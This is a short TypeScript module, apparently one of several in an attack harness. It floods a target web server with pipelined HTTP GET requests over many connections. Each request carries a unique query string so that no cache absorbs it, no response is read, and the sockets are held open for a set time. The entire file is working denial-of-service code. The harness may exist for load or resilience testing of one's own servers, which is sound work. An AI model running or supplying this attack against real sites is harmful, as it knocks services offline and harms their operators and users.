import { setTimeout as sleep } from "node:timers/promises";
import { type Attack, endSockets, openSockets } from "../attack.ts";

/** Each is requested with a number of its own, so none is in a cache. */
const PAGES = ["/cart", "/", "/products", "/about", "/login"];

/** Sends many small requests at once on each connection, and reads no response. */
export const attack: Attack<{ connections: number; bytes: number; forMs: number }> = async (
  { url },
  { connections, bytes, forMs },
) => {
  let requests = "";
  for (let i = 0; requests.length < bytes; i++)
    requests += `GET ${PAGES[i % PAGES.length]}?${i} HTTP/1.1\r\nHost: a\r\n\r\n`;
  const sockets = openSockets(url, connections, requests);
  await sleep(forMs);
  return endSockets(sockets);
};
